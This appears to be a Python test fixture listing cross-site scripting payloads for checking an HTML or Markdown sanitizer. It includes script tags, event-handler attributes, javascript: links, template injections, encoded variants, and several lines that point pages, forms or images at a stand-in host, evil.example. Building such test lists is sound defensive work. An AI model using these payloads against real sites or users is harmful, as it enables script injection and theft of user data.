"""What people write who want it to run in somebody else's browser."""

PAYLOADS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><script>alert(1)</script>',
    "'><svg onload=alert(1)>", "</title><script>alert(1)</script>", "</pre><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<base href=//evil.example>", "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>", "<meta http-equiv=refresh content=0>",
    "<form action=//evil.example><button>x", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
    "<%= alert(1) %>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))",
    "[x](data:text/html,<script>)", "![x](javascript:alert(1))", "![x](http://evil.example/pixel.png)",
    "[x]: javascript:alert(1)\n[x]", "<javascript:alert(1)>", '<http://a" onclick="alert(1)>',
    '[a](http://x "\' onmouseover=\'alert(1)")', "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```", '```html"onload="x\n<b>\n```', "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>]]>", "<plaintext>", "\u202e<script>\u2066alert(1)\u2069",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E",
]  # fmt: skip
